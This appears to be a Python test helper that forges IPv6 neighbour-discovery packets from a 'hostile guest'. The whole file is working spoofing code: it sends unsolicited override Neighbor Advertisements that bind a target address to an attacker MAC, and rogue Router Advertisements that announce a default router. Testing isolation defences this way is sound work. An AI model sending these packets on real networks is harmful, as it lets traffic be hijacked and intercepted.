"""Send one forged neighbour-discovery message from a test client, as a hostile guest would:
  nd6send.py na IFACE TARGET MAC   unsolicited override advertisement: TARGET is at MAC
  nd6send.py ra IFACE              router advertisement: I am a default router (1800 s)
to ff02::1 from the interface's link-local address, hop limit 255 (the kernel fills in the
checksum of a raw ICMPv6 socket)."""

import ipaddress
import socket
import struct
import sys

kind, iface = sys.argv[1], sys.argv[2]
scope = socket.if_nametoindex(iface)
sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, scope)
if kind == "na":
    target, mac = ipaddress.IPv6Address(sys.argv[3]).packed, bytes.fromhex(sys.argv[4].replace(":", ""))
    # type 136, override flag; option 2 (target link-layer address), 8 bytes
    msg = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + target + struct.pack("!BB", 2, 1) + mac
else:
    # type 134, hop limit 64, no flags, router lifetime 1800 s, reachable 0, retransmit 0
    msg = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
sock.sendto(msg, ("ff02::1", 0, 0, scope))
